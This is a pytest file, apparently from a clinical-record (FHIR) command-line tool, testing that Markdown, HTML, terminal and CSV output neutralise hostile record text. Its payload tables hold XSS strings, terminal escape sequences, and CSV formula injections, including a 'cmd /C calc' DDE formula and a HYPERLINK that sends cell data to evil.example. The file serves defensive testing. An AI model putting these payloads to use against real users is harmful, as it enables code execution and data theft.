"""Threats 18 and 22: what a record says stays words, in every form in which a result is shown."""

import csv
import io
import json
import unicodedata
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from markdown_it import MarkdownIt
from tests.threats.line import DAYS, bundle, named, patient, resources
from tests.unit.cli.run import nelm
from tests.unit.cli.test_canary import marked, structural

from nelm_fhir.cli.render import FORMATS

MARKUP = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "end": "</div></p></td></body></html><b>",
    "comment": "<!-- <![CDATA[ ]]> --> &lt;i&gt; &#60;u&#62; &nbsp;",
    "link": "[click](https://evil.example) <https://evil.example> ![x](https://evil.example/x.png)",
    "table": "a | b | c ``` ~~~ # heading *bold* _under_ \\",
    "lines": "one\n\n# heading\r\n<b>bold</b>\n- item\n| a | b |\n|---|---|",
}
TERMINAL = {
    "color": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;owned\x07",
    "clear": "\x1b[2J\x1b[H",
    "8 bit": "\x9b31m \x9d0;owned\x9c",
    "back": "gone\b\b\b\b \r over",
    "bidi": "\u202egnorw\u202c \u2066a\u2069 \u200f \u061c",
    "invisible": "a\u200bb\ufeffc\u00add\u2060e",
    "rich": "[red]red[/red] [link=https://evil.example]x[/link] :smiley:",
}
FORMULA = {
    "command": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line": "\n=1+1",
    "blank": "  =1+1",
    "no-break": "\u00a0=1+1",
    "wide": "＝1+1",
    "quote": '","=1+1',
    "semicolon": "a;=1+1;b",
}
HOSTILE = {**MARKUP, **TERMINAL, **FORMULA}
RECORDS = ["sets-that-disagree", "mostly-free-text", "tumor-board-form"]
PAGES = [
    ("assess",), ("assess", "-v"), ("explain",), ("profile", "--format", "table"),
    ("form", "--missing", "--set", "optn", "--format", "table"), ("coverage", "-v"),
    ("assess", "--format", "facts"),
]  # fmt: skip


def hostile(name: str, words: str) -> dict:
    """The record with these words in front of every text in it that is no structure."""

    def said(value, key=""):
        if isinstance(value, dict):
            return {k: said(v, k) for k, v in value.items()}
        if isinstance(value, list):
            return [said(v, key) for v in value]
        return f"{words}{value}" if isinstance(value, str) and not structural(key) else value

    told = said(bundle(name))
    person = patient(told)
    old, new = named(person), f"Patient/{words}"
    person["id"] = words
    text = json.dumps(told).replace(json.dumps(old), json.dumps(new))
    return json.loads(text)


def path_of(folder: Path, name: str, words: str) -> str:
    path = folder / "record.json"
    path.write_text(json.dumps(hostile(name, words)))
    return str(path)


def shown(folder: Path, name: str, words: str, *arguments: str) -> str:
    command, *options = arguments
    done = nelm(command, path_of(folder, name, words), "--as-of", str(DAYS[name]), *options)
    assert done.exit_code in {0, 10}, done.output
    return done.stdout + done.stderr


def without_commands(text: str) -> bool:
    """Nothing that a terminal takes for more than a character: no control, format, bidi mark."""
    return all(c == "\n" or unicodedata.category(c) not in {"Cc", "Cf"} for c in text)


# --- 18: terminals --------------------------------------------------------------------------------


@pytest.mark.threat(18)
@pytest.mark.parametrize("arguments", PAGES, ids=" ".join)
@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
def test_no_page_of_a_terminal_holds_a_command(arguments, words, tmp_path):
    for name in RECORDS[:2]:
        assert without_commands(shown(tmp_path, name, words, *arguments))


@pytest.mark.threat(18)
@pytest.mark.parametrize("form", ["table", "md", "csv"])
@pytest.mark.parametrize("words", [*TERMINAL.values(), MARKUP["script"].replace("/", "")])
def test_the_name_of_a_file_is_shown_without_commands_and_markup(form, words, tmp_path):
    paths = [tmp_path / f"{words}{n}.json".replace("/", "").replace("\0", "") for n in (1, 2)]
    for path in paths:
        path.write_text(json.dumps(bundle("meets-all")))
    paths.append(tmp_path / f"{words} broken.json".replace("/", ""))
    paths[-1].write_text("{")
    found = nelm("assess", *map(str, paths), "--as-of", "2026-06-01", "--format", form)
    assert found.exit_code == 14
    assert without_commands(found.stdout.replace("\r\n", "\n"))
    assert form != "md" or "<script" not in MarkdownIt().render(found.stdout)


@pytest.mark.threat(18)
def test_the_words_of_a_record_are_shown_where_they_are_harmless(tmp_path):
    """The tests above look at pages on which hostile words do stand."""
    told = shown(tmp_path, "sets-that-disagree", "<script>", "explain")
    assert "<script>" in told


# --- 18: Markdown, narrative, HTML ----------------------------------------------------------------


class Tags(HTMLParser):
    """The tags and attributes that a browser would see."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


@pytest.mark.threat(18)
@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
def test_markdown_renders_the_words_of_a_record_as_words(words, tmp_path):
    renderer = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
    for name in RECORDS:
        told = shown(tmp_path, name, words, "assess", "--format", "md")
        seen = Tags(renderer.render(told))
        plain = Tags(renderer.render(shown(tmp_path, name, "", "assess", "--format", "md")))
        assert seen.tags <= {"h1", "h2", "ul", "li", "p", "strong", "blockquote", "table", "thead",
                             "tbody", "tr", "th", "td"}  # fmt: skip
        assert seen.attributes == plain.attributes == set()
        assert without_commands(told)


@pytest.mark.threat(18)
@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
def test_a_narrative_is_xhtml_of_paragraphs_and_lists_whatever_a_record_says(words, tmp_path):
    for name in RECORDS:
        told = json.loads(shown_fhir(tmp_path, name, words))
        divs = [one["text"]["div"] for one in resources(told) if "text" in one]
        assert divs
        for div in divs:
            seen = {one.tag.partition("}")[2] for one in ET.fromstring(div).iter()}  # noqa: S314 - ours
            assert seen <= {"div", "p", "ul", "li"}
            assert Tags(div).attributes == {"xmlns"}


def shown_fhir(folder: Path, name: str, words: str) -> str:
    """What is written as FHIR; the id of the patient stays one that FHIR allows."""
    told = hostile(name, words)
    text = json.dumps(told).replace(json.dumps(f"Patient/{words}"), '"Patient/p"')
    told = json.loads(text)
    patient(told)["id"] = "p"
    path = folder / "record.json"
    path.write_text(json.dumps(told))
    done = nelm("assess", str(path), "--as-of", str(DAYS[name]), "--format", "fhir")
    assert done.exit_code == 0, done.output
    return done.stdout


@pytest.mark.threat(18)
@pytest.mark.parametrize("words", MARKUP.values(), ids=MARKUP)
def test_a_reference_that_is_no_id_of_fhir_is_never_written(words, tmp_path):
    path = path_of(tmp_path, "meets-all", words)
    done = nelm("assess", path, "--as-of", "2026-06-01", "--format", "fhir")
    assert done.exit_code == 0
    subjects = [one["subject"] for one in resources(json.loads(done.stdout)) if "subject" in one]
    assert subjects
    assert not [subject for subject in subjects if "reference" in subject]


@pytest.mark.threat(18)
@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
def test_a_coverage_page_is_made_of_its_own_tags_only(words, tmp_path):
    for n in range(6):
        told = marked(hostile("local-codes", words), lambda key: structural(key) and key != "code")
        for one in resources(told):
            for holder in (one.get("code", {}), one.get("valueCodeableConcept", {})):
                for coding in holder.get("coding", []) if isinstance(holder, dict) else []:
                    coding |= {"code": f"{words}{coding.get('code')}", "display": words}
        (tmp_path / f"{n}.json").write_text(json.dumps(told))
    done = nelm("coverage", str(tmp_path), "--as-of", "2026-06-01", "--format", "html")
    seen = Tags(done.stdout)
    assert seen.tags <= {
        "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "p", "dl", "dt", "dd",
        "table", "thead", "tbody", "tr", "th", "td", "code", "span", "i", "details", "summary",
        "footer", "ul", "li", "strong", "em", "br", "caption", "header", "section", "div", "small",
    }  # fmt: skip
    assert not {name for name in seen.attributes if name.startswith("on")}
    assert not {"src", "href"} & seen.attributes


@pytest.mark.threat(18)
@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
def test_a_report_is_made_of_its_own_tags_only(words, tmp_path):
    for name in RECORDS:
        found = shown(tmp_path, name, words, "assess", "--format", "html")
        plain = Tags(shown(tmp_path, name, "", "assess", "--format", "html"))
        seen = Tags(found)
        assert seen.tags <= plain.tags | {"a", "li", "ul"}
        assert not {one for one in seen.attributes if one.startswith("on")}
        assert "src" not in seen.attributes


# --- 22: formulas in spreadsheets -----------------------------------------------------------------

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@pytest.mark.threat(22)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
def test_no_cell_is_a_formula_wherever_a_spreadsheet_splits(words, delimiter, tmp_path):
    for name in RECORDS:
        told = shown(tmp_path, name, words, "assess", "--format", "csv")
        for cell in cells(told, delimiter):
            assert not cell.lstrip(" \u00a0").startswith(DANGEROUS)


@pytest.mark.threat(22)
@pytest.mark.parametrize("words", [w for w in FORMULA.values() if "/" not in w])
def test_the_name_of_a_file_is_no_formula(words, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    names = [f"{words}{n}.json" for n in (1, 2)]
    for name in names:
        Path(name).write_text(json.dumps(bundle("meets-all")))
    Path(f"{words}broken").write_text("{")
    done = nelm(
        "assess", "--format", "csv", "--as-of", "2026-06-01", "--", *names, f"{words}broken"
    )
    assert done.exit_code == 14
    found = cells(done.stdout)
    assert not [cell for cell in found if cell.lstrip(" \u00a0").startswith(DANGEROUS)]
    if words.lstrip().startswith(DANGEROUS):
        assert len([cell for cell in found if cell.startswith("'")]) > 2


@pytest.mark.threat(22)
def test_csv_is_the_only_form_for_spreadsheets():
    """Another one has to be tested here."""
    assert set(FORMATS) == {"table", "json", "ndjson", "fhir", "md", "html", "facts", "csv"}
